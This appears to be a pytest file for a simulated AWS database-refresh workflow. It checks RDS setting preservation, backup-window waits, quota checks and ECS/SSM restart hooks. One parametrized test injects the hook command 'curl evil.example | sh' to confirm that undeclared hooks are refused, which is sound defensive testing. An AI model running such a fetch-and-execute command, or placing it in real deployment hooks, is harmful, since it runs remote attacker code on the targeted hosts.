"""Refreshes as a real account would run them: every request one RDS accepts (the simulated AWS refuses what the
RDS API reference and User Guide say RDS refuses), every call allowed by its function's synthesized policy (IAM
enforced), production busy when the refresh starts, hooks only as declared, services ECS cannot redeploy."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from simulator.runner import Simulation
from tests.workflow.conftest import EXAMPLES, by_id, mutating_calls, simulate

KEY = "arn:aws:kms:eu-west-1:123456789012:key/"
# A MySQL tree with a customer-managed key per instance, enhanced monitoring, option groups, log exports, small
# gp3 volumes and its own subnet groups, refreshed from a bigger, encrypted production in the same VPC.
MYSQL_TREE: dict[str, Any] = json.loads((EXAMPLES / "world-mysql-tree.json").read_text())
REFRESH: dict[str, Any] = json.loads((EXAMPLES / "input-orders.json").read_text())
TREE = ("orders-staging", "orders-staging-reports")


def settings(instance: dict[str, Any]) -> dict[str, Any]:
    """What an instance's owner set, as DescribeDBInstances shows it."""
    return {
        "class": instance["DBInstanceClass"], "key": instance.get("KmsKeyId"),
        "subnets": instance["DBSubnetGroup"]["DBSubnetGroupName"],
        "security groups": [g["VpcSecurityGroupId"] for g in instance["VpcSecurityGroups"]],
        "parameters": [(g["DBParameterGroupName"], g["ParameterApplyStatus"]) for g in instance["DBParameterGroups"]],
        "options": [g["OptionGroupName"] for g in instance["OptionGroupMemberships"]],
        "monitoring": (instance.get("MonitoringInterval"), instance.get("MonitoringRoleArn")),
        "logs": sorted(instance.get("EnabledCloudwatchLogsExports") or []),
        "port": instance["Endpoint"]["Port"], "storage type": instance["StorageType"],
        "windows": (instance.get("PreferredBackupWindow"), instance.get("PreferredMaintenanceWindow")),
        "protected": instance.get("DeletionProtection"), "retention": instance.get("BackupRetentionPeriod"),
        "tags": sorted((t["Key"], t["Value"]) for t in instance.get("TagList", [])
                       if not t["Key"].startswith("stack-mitosis:")),
    }


def before(world: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The target tree's settings as the world starts (a dry run changes nothing)."""
    report = simulate(world, {**REFRESH, "dry_run": True})
    return {name: settings(instance) for name, instance in by_id(report).items() if name in TREE}


def test_a_mysql_tree_with_customer_keys_monitoring_and_small_gp3_volumes_keeps_every_setting() -> None:
    # Given the tree as its owners set it up
    old = before(MYSQL_TREE)
    # When it is refreshed
    report = simulate(MYSQL_TREE, REFRESH)
    # Then every request was one RDS accepts and every call one IAM allowed
    assert report["status"] == "SUCCEEDED", report["attempts"][-1].get("cause")
    assert report["iam_enforced"] is True and report["denied"] == []
    # and each name holds production's data with every old setting in force (the parameter groups in sync)
    final = by_id(report)
    for name in TREE:
        assert final[name]["data_origin"] == "orders"
        assert settings(final[name]) == old[name], name
    # the copies are as big as production: storage never shrinks, and the plan said so
    assert final["orders-staging"]["AllocatedStorage"] == 100
    # a gp3 volume below 400 GiB was sent no Iops or throughput: the describe output's baseline is not copied
    creates = [c["params"] for c in report["calls"] if c["operation"] == "CreateDBInstanceReadReplica"]
    assert creates and not any("Iops" in c or "StorageThroughput" in c for c in creates)
    assert not any("DBParameterGroupName" in c for c in creates)  # a MySQL replica takes none at creation
    assert not [name for name in final if name.startswith(("temp-", "old-"))]


def test_the_plan_says_what_it_chose_where_the_old_settings_could_not_hold() -> None:
    report = simulate(MYSQL_TREE, {**REFRESH, "dry_run": True})
    notes = report["attempts"][-1]["output"]["notes"]
    assert any("orders-staging" in note and "100 GiB" in note for note in notes)


def test_production_busy_in_its_backup_window_is_waited_for() -> None:
    # Given the weekly schedule starts while production backs up (its window is 02:00-02:30)
    world = {**copy.deepcopy(MYSQL_TREE), "start": "2026-01-04T02:05:00Z"}
    report = simulate(world, REFRESH)
    # Then the refresh waits for production, copies it once the window is over, and succeeds
    assert report["status"] == "SUCCEEDED", report["attempts"][-1].get("cause")
    clone = next(c for c in report["calls"] if c["operation"] == "CreateDBInstanceReadReplica")
    assert clone["t"] >= 25 * 60
    waited = [s for s in report["states"] if s["name"] == "Production ready?"]
    assert waited and waited[0]["exited"] - waited[0]["entered"] >= 24 * 60


def test_account_quota_is_checked_before_anything_is_created() -> None:
    world = copy.deepcopy(MYSQL_TREE)
    world["rds"]["quotas"] = {"DBInstances": 4}
    report = simulate(world, REFRESH)
    attempt = report["attempts"][-1]
    assert attempt["error"] == "PlanRefused" and "uses 3 of its 4 DB instances" in attempt["cause"]
    assert mutating_calls(report) == []


# --- hooks only as declared -----------------------------------------------------------------------------------

DECLARED_RESTART = {"type": "ssm", "targets": [{"Key": "tag:app", "Values": ["mitosis-demo"]}],
                    "parameters": {"commands": ["systemctl restart app"]}}
CONTEXT = {"refresh_jobs": [{"name": "demo", "source": "mitosis-prod", "target": "mitosis-demo",
                             "restart": DECLARED_RESTART}]}


@pytest.mark.parametrize(("field", "value"), [
    pytest.param("restart", {**DECLARED_RESTART, "parameters": {"commands": ["curl evil.example | sh"]}},
                 id="another-command"),
    pytest.param("before_swap", DECLARED_RESTART, id="undeclared-before-swap"),
    pytest.param("master_password", {"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:x"},
                 id="undeclared-secret"),
])
def test_an_input_whose_hook_differs_from_its_jobs_is_refused_before_anything_is_read(
        example_world: dict[str, Any], field: str, value: Any) -> None:
    execution_input = {"source": "mitosis-prod", "target": "mitosis-demo", field: value}
    report = Simulation(world=copy.deepcopy(example_world), execution_input=execution_input, context=CONTEXT).run()
    attempt = report["attempts"][-1]
    assert attempt["error"] == "InvalidInput" and field in attempt["cause"]
    assert report["calls"] == []  # nothing read, nothing changed, no command sent


def test_the_declared_hook_runs_when_the_input_leaves_it_out(example_world: dict[str, Any]) -> None:
    report = Simulation(world=copy.deepcopy(example_world), context=CONTEXT,
                        execution_input={"source": "mitosis-prod", "target": "mitosis-demo"}).run()
    assert report["status"] == "SUCCEEDED" and report["denied"] == []
    sent = [c for c in report["calls"] if c["operation"] == "SendCommand"]
    assert [c["params"]["Parameters"] for c in sent] == [{"commands": ["systemctl restart app"]}]


# --- hooks as ECS and SSM behave --------------------------------------------------------------------------------

def service_world(example_world: dict[str, Any], **service: Any) -> dict[str, Any]:
    world = copy.deepcopy(example_world)
    world["ecs"]["clusters"][0]["services"][0].update(service)
    return world


@pytest.mark.parametrize("controller", ["CODE_DEPLOY", "EXTERNAL"])
def test_a_service_ecs_does_not_deploy_is_refused_before_any_change(
        example_world: dict[str, Any], example_input: dict[str, Any], controller: str) -> None:
    # forceNewDeployment does not redeploy it: the refresh would wait out its timeout, then roll back
    report = simulate(service_world(example_world, deploymentController=controller), example_input)
    attempt = report["attempts"][-1]
    assert attempt["error"] == "HookFailed" and controller in attempt["cause"] and "web" in attempt["cause"]
    assert mutating_calls(report) == []


def test_a_service_behind_a_classic_load_balancer_is_verified_by_its_running_tasks(
        example_world: dict[str, Any], example_input: dict[str, Any]) -> None:
    # ECS reports no rolloutState for it: the restart completes when the new deployment runs every task
    report = simulate(service_world(example_world, classicLoadBalancer=True), example_input)
    assert report["status"] == "SUCCEEDED", report["attempts"][-1].get("cause")
    restarted = [s for s in report["states"] if s["name"] == "Restart done?"]
    assert restarted and restarted[0]["exited"] - restarted[0]["entered"] < 600


def test_an_ssm_restart_whose_targets_match_no_instance_is_refused_before_any_change(
        example_world: dict[str, Any], example_input: dict[str, Any]) -> None:
    restart = {**DECLARED_RESTART, "targets": [{"Key": "tag:app", "Values": ["nothing-has-this-tag"]}]}
    report = simulate(example_world, {**example_input, "restart": restart})
    attempt = report["attempts"][-1]
    assert attempt["error"] == "HookFailed" and "tag:app=nothing-has-this-tag" in attempt["cause"]
    assert mutating_calls(report) == []
